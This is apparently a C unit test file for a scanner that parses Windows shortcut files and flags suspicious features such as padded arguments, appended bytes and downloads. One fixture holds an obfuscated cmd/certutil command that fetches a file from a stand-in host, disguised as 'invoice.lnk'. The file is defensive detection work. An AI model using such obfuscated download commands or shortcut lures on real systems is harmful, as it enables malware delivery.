/* Shortcuts: what they start is calculated, what hides behind their end is opened, and cuts are told. */
#include "unit/with_arena.h"

#include <string.h>

#include "format/shortcut/lnk_reader.h"
#include "make/lnk.h"
#include "make/scanned.h"
#include "model/deviations.h"
#include "model/effects.h"
#include "model/facts.h"
#include "model/kinds.h"

static const make_lnk plain = {.local_path = "C:\\Programs\\tool.invalid.exe", .arguments = "/c start page", .folder = "C:\\Work",
                               .icon = "C:\\icons.dll", .machine = "pc1", .target_size = 5000, .name = "Note"};

static void test_parts_of_a_link(void **state)
{
    (void)state;
    sk_lnk l;
    assert_true(sk_lnk_read(arena, make_lnk_file(arena, &plain), 932, &l));
    assert_false(l.damaged || l.padded);
    assert_bytes(l.id_path, "C:\\Programs\\tool.invalid.exe");
    assert_bytes(l.local_path, "C:\\Programs\\tool.invalid.exe");
    assert_bytes(l.arguments, "/c start page");
    assert_bytes(l.working_folder, "C:\\Work");
    assert_bytes(l.icon, "C:\\icons.dll");
    assert_bytes(l.name, "Note");
    assert_bytes(l.machine, "pc1");
    assert_int_equal(l.volume_serial, 0x6a228faa);
    assert_int_equal(l.target_size, 5000);
}

static void test_environment_block_comes_first(void **state)
{
    (void)state;
    make_lnk with = plain;
    with.environment = "%ComSpec%";
    sk_lnk l;
    assert_true(sk_lnk_read(arena, make_lnk_file(arena, &with), 0, &l));
    assert_bytes(sk_lnk_target(&l), "%ComSpec%");
    with = (make_lnk){.relative_path = "..\\tool.invalid.exe"};
    assert_true(sk_lnk_read(arena, make_lnk_file(arena, &with), 0, &l));
    assert_bytes(sk_lnk_target(&l), "..\\tool.invalid.exe");
}

static void test_command_line_is_calculated(void **state)
{
    (void)state;
    make_lnk l = {.environment = "%ComSpec%", .arguments = "/c set a=certutil&&set b= -urlcache -f http://a.example/x&&call %a%%b% out.invalid"};
    sk_report *r = make_scanned(make_lnk_file(arena, &l), "invoice.lnk", NULL);
    const sk_artifact *line = make_found(r, "command line", 0);
    assert_non_null(line);
    assert_int_equal(line->kind, SK_KIND_SCRIPT_BATCH);
    size_t count;
    const sk_effect *effects = sk_report_effects(r, &count);
    bool download = false;
    for (size_t i = 0; i < count; i++) {
        download |= effects[i].op == SK_OP_DOWNLOAD;
    }
    assert_true(download);
    sk_report_free(r);
}

static void test_bytes_behind_the_end_and_padding(void **state)
{
    (void)state;
    char arguments[400];
    memset(arguments, ' ', sizeof arguments);
    memcpy(arguments + 300, "/c echo", 8);
    make_lnk l = {.local_path = "C:\\Programs\\tool.invalid.exe", .arguments = arguments, .overlay = SK_LIT("WScript.Echo \"text\"\r\n")};
    sk_report *r = make_scanned(make_lnk_file(arena, &l), "a.lnk", NULL);
    assert_int_equal(make_count_deviations(r, SK_DEV_LNK_ARGUMENTS_PADDED), 1);
    assert_int_equal(make_count_deviations(r, SK_DEV_LNK_OVERLAY), 1);
    assert_non_null(make_found(r, "behind the link", 0));
    assert_bytes(sk_slice(make_fact(r, SK_FACT_LNK_TARGET, SK_NO_ARTIFACT), 0, 11), "C:\\Programs");
    sk_report_free(r);
}

static void test_every_cut_and_every_word_led_astray(void **state)
{
    (void)state;
    make_lnk with = plain;
    with.environment = "%ComSpec%";
    sk_bytes file = make_lnk_file(arena, &with);
    sk_lnk l;
    for (size_t len = 76; len < file.len; len++) {
        assert_true(sk_lnk_read(arena, sk_slice(file, 0, len), 0, &l));
        assert_true(l.end <= len);
    }
    uint8_t *raw = sk_arena_take(arena, file.len, 1);
    for (size_t at = 76; at + 4 <= file.len; at++) {
        memcpy(raw, file.p, file.len);
        memset(raw + at, 0xff, 4);
        assert_true(sk_lnk_read(arena, sk_bytes_of(raw, file.len), 0, &l));
        assert_true(l.end <= file.len);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_parts_of_a_link, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_environment_block_comes_first, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_command_line_is_calculated, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_bytes_behind_the_end_and_padding, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_every_cut_and_every_word_led_astray, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
